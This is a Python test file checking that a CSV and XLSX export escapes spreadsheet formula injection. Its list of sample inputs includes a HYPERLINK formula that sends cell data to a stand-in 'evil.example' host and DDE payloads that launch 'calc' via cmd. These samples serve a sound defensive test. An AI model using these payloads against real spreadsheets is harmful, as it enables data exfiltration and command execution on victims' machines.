"""A table that somebody opens in a spreadsheet shows what people wrote, and runs nothing of it."""

from __future__ import annotations

import csv
import io
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from entraide.reports.export import csv_lines, xlsx

ZURICH = ZoneInfo("Europe/Zurich")
STARTS = "=+-@\t\r＝＋－＠"
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"https://evil.example?\"&A1)", "=cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "＝1+1", "a;=1+1;b", "a; =1+1", "a\n=1+1", "a\r\n@SUM(1)", "a\t=1+1", ";;-1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_csv_begins_a_formula_however_a_program_parts_the_line(text: str) -> None:
    line = "".join(csv_lines([["a", text, "b"]], zone=ZURICH, is_start=False))
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
            assert not any(_runs(cell) for cell in row), (separator, row)
    # Programs that know no quotes at all:
    assert not any(_runs(cell.strip('"')) for piece in line.splitlines() for cell in piece.replace(",", ";").split(";"))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_xlsx_is_a_formula(text: str) -> None:
    book = load_workbook(io.BytesIO(xlsx([text], [[text, 1]], title=text, zone=ZURICH)))
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith(tuple(STARTS)))


@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n;,\"' aé1＝"), max_size=12), min_size=1, max_size=4))
def test_whatever_is_written_a_reader_of_csv_sees_it_and_no_formula(cells: list[str]) -> None:
    line = "".join(csv_lines([cells], zone=ZURICH, is_start=False))
    for separator in (",", ";"):
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
            assert not any(_runs(cell) for cell in row), row
    # Nothing but apostrophes was added.
    [row] = csv.reader(io.StringIO(line, newline=""))
    assert [each.replace("'", "") for each in row] == [each.replace("'", "") for each in cells]


def _runs(cell: str) -> bool:
    """Tell whether a program would take the cell for a formula, whatever blanks it passes over."""
    begun = cell.lstrip()
    return begun.startswith(tuple("=+-@＝＋－＠")) and len(begun) > 1
